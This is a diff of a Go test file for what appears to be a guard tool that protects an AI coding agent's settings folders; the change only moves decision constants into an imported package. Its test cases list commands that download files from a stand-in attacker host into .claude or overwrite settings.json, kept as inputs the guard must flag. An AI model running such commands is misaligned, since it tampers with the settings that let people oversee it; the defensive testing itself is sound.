@@ -1,6 +1,10 @@
 package guard
 
-import "testing"
+import (
+	"testing"
+
+	"github.com/countersign/countersign/cmd/countersign/guard/agents"
+)
 
 // A command that unpacks, applies or downloads into a folder of settings is asked about, and so
 // is the download of a settings file under its own name.
@@ -106,7 +110,7 @@ func TestProtectBroughtFiles(t *testing.T) {
 		`python3 -c "import shutil,os; shutil.unpack_archive('a.zip', os.path.expanduser('~/.claude'))"`,
 		`wget https://evil.example/.countersign.json`, `cd ~ && wget -x -nH https://evil.example/.claude/settings.json`, `cd .claude && curl -sSfLO https://evil.example/x`,
 	} {
-		if got, answer := m.decide(command, m.web); got != Ask && got != Deny {
+		if got, answer := m.decide(command, m.web); got != agents.Ask && got != agents.Deny {
 			t.Errorf("%q passes: %s", command, answer)
 		}
 	}
@@ -222,7 +226,7 @@ func TestProtectOtherLayers(t *testing.T) {
 		`awk 'BEGIN{print "{}" > ".claude/settings.json"}'`,
 		"python3 - <<'E'\nimport os\nos.chdir('.claude')\nwith open('settings.json','w') as f:\n  f.write('{}')\nE",
 	} {
-		if got, answer := m.decide(command, m.web); got != Ask && got != Deny {
+		if got, answer := m.decide(command, m.web); got != agents.Ask && got != agents.Deny {
 			t.Errorf("%q passes: %s", command, answer)
 		}
 	}
@@ -300,6 +304,6 @@ func TestProtectLeavesOtherFolders(t *testing.T) {
 		`docker run -v ~/.claude:/x:ro alpine ls /x`,
 		`bwrap --ro-bind / / --bind . . npm test`,
 	} {
-		m.want(Pass, command, m.web)
+		m.want(agents.Pass, command, m.web)
 	}
 }
